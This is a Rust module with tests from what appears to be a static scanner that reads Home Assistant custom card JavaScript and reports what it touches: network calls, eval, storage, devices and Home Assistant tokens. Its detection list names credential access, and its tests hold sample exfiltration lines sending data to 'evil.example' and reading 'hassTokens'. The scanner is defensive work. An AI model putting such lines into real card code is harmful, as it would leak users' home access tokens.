//! What a card's code mentions, found by reading its text and not by running it: a hint for the owner, never a proof (R38).

use std::collections::BTreeSet;

use super::lexer::{Token, tokens};
use crate::inbound::hosts;

/// Things that code can do, and the words by which it does them.
const REACHES: [(&str, &[&str]); 8] = [
    ("calls to other computers (fetch)", &["fetch", "XMLHttpRequest", "sendBeacon", "EventSource"]),
    ("connections (WebSocket, WebRTC)", &["WebSocket", "RTCPeerConnection", "WebTransport"]),
    ("code made of text (eval)", &["eval", "Function"]),
    ("the browser's storage", &["localStorage", "sessionStorage", "indexedDB", "caches", "cookie"]),
    ("workers", &["Worker", "SharedWorker", "serviceWorker"]),
    ("the microphone, the camera or the position", &["mediaDevices", "getUserMedia", "geolocation"]),
    ("other frames and windows", &["postMessage", "open", "opener"]),
    (
        "Home Assistant's own access",
        &["callWS", "callApi", "sendMessagePromise", "fetchWithAuth", "access_token", "hassTokens"],
    ),
];

/// What the text of a module tells.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Scan {
    /// Elements that it defines by a name which stands there.
    pub defines: BTreeSet<String>,
    /// It defines an element whose name is made somewhere else in it.
    pub defines_others: bool,
    /// It loads another module before it runs (`import … from`, `export … from`): one file it is not.
    pub imports: bool,
    /// What it mentions, in words for the owner; hosts among them.
    pub reaches: BTreeSet<String>,
    /// Every string in it that could be an element's name.
    names: BTreeSet<String>,
}

impl Scan {
    /// Whether the module can define this element: it says so, or it defines something and the name stands in it.
    #[must_use]
    pub fn can_define(&self, element: &str) -> bool {
        self.defines.contains(element) || (self.defines_others && self.names.contains(element))
    }
}

/// Reads a module's text.
#[must_use]
pub fn scan(module: &str) -> Scan {
    let mut scan = Scan::default();
    let tokens = tokens(module);
    for (at, token) in tokens.iter().enumerate() {
        let next = |n: usize| tokens.get(at + n);
        match token {
            Token::Text(text) => scan.string(text),
            Token::Word("import") => match next(1) {
                Some(Token::Sign('(')) => {
                    scan.reaches.insert("modules loaded later (import)".to_owned());
                }
                // `import.meta`
                Some(Token::Sign('.')) => {}
                Some(_) if !member(&tokens, at) => scan.imports = true,
                _ => {}
            },
            Token::Word("export") => scan.imports |= exports_another(&tokens[at..]),
            Token::Word("define") if member(&tokens, at) && next(1) == Some(&Token::Sign('(')) => {
                // A name that is put together is not this string alone.
                match (next(2), next(3)) {
                    (Some(Token::Text(name)), Some(Token::Sign(','))) => {
                        scan.defines.insert((*name).to_owned());
                    }
                    _ => scan.defines_others = true,
                }
            }
            // As decorators are compiled: `t("acme-clock")`, with `customElements.define` in a helper.
            Token::Word(word) => {
                let known = REACHES.iter().find(|(_, words)| words.contains(word));
                // `open` and `caches` are also words of everybody's; they count where they are called or looked into.
                let used = matches!(next(1), Some(Token::Sign('(' | '.' | '[' | '=' | ')' | ',' | ';')));
                if let Some((what, _)) = known.filter(|_| used) {
                    scan.reaches.insert((*what).to_owned());
                }
            }
            Token::Sign(_) => {}
        }
    }
    scan
}

impl Scan {
    fn string(&mut self, text: &str) {
        for host in hosts::named(text) {
            self.reaches.insert(format!("the address {host}"));
        }
        if text.contains('-') && text.len() <= 64 && text.starts_with(|c: char| c.is_ascii_lowercase()) {
            self.names.insert(text.to_owned());
        }
        // `window["fetch"]`
        if let Some((what, _)) = REACHES.iter().find(|(_, words)| words.contains(&text)) {
            self.reaches.insert((*what).to_owned());
        }
    }
}

/// Whether the word at this place is looked up in something: `x.word`.
fn member(tokens: &[Token<'_>], at: usize) -> bool {
    at.checked_sub(1).and_then(|before| tokens.get(before)) == Some(&Token::Sign('.'))
}

/// `export * from "x"`, `export { a } from "x"`
fn exports_another(tokens: &[Token<'_>]) -> bool {
    let mut inside = tokens.iter().skip(1);
    let first = match inside.next() {
        Some(Token::Sign('*')) => Some(()),
        Some(Token::Sign('{')) => inside.by_ref().find(|token| **token == Token::Sign('}')).map(drop),
        _ => None,
    };
    let rest: Vec<_> = inside.take(4).collect();
    first.is_some()
        && rest.windows(2).any(|pair| *pair[0] == Token::Word("from") && matches!(pair[1], Token::Text(_)))
}

#[cfg(test)]
mod tests {
    use super::*;

    const CLOCK: &str =
        "class C extends HTMLElement { setConfig(c) {} set hass(h) { this.textContent = h.states } }
        customElements.define(\"acme-clock\", C); window.customCards = window.customCards || [];";

    #[test]
    fn an_honest_card_reaches_for_nothing() {
        let scan = scan(CLOCK);
        assert_eq!(scan.defines, BTreeSet::from(["acme-clock".to_owned()]));
        assert!(scan.can_define("acme-clock") && !scan.can_define("acme-other"));
        assert!(scan.reaches.is_empty() && !scan.imports, "{scan:?}");
    }

    #[test]
    fn r38_what_a_card_mentions_is_named() {
        for (code, word) in [
            ("fetch('https://evil.example/x')", "fetch"),
            ("fetch('https://evil.example/x')", "evil.example"),
            ("window['fetch'](x)", "fetch"),
            ("new WebSocket(u)", "WebSocket"),
            ("eval(x)", "eval"),
            ("new Function('return 1')", "eval"),
            ("localStorage.getItem('hassTokens')", "storage"),
            ("localStorage.getItem('hassTokens')", "Home Assistant's own access"),
            ("document.cookie = 1", "storage"),
            ("import('/local/x.js')", "loaded later"),
            ("new Image().src = `//evil.example/${x}`", "evil.example"),
            ("navigator.sendBeacon(u)", "fetch"),
        ] {
            let reaches = scan(code).reaches;
            assert!(reaches.iter().any(|what| what.contains(word)), "{code}: {reaches:?}");
        }
        let quiet = scan("// fetch('https://a.example')\nconst opened = x.fetched; /* eval(1) */");
        assert!(quiet.reaches.is_empty(), "{quiet:?}");
    }

    #[test]
    fn a_module_that_loads_another_is_not_one_file() {
        for code in [
            "import x from 'y'",
            "import 'y'",
            "import{a}from'y'",
            "export * from 'y'",
            "export {a} from 'y'",
        ] {
            assert!(scan(code).imports, "{code}");
        }
        for code in
            ["import('y')", "import.meta.url", "x.import = 1", "export { a }; 'y'", "export const from = 'y'"]
        {
            assert!(!scan(code).imports, "{code}");
        }
    }

    #[test]
    fn names_that_are_made_elsewhere_are_believed_if_they_stand_there() {
        for code in [
            "const N = 'acme-clock'; customElements.define(N, C)",
            "const e = t => c => customElements.define(t, c); e('acme-clock')(C)",
            "customElements.define('acme-' + 'x', C); 'acme-clock'",
        ] {
            assert!(scan(code).can_define("acme-clock"), "{code}");
        }
        for code in [
            "'acme-clock'",
            "customElements.define('acme-other', C); 'acme-clock'",
            "define(N); 'acme-clock'",
        ] {
            assert!(!scan(code).can_define("acme-clock"), "{code}");
        }
    }
}
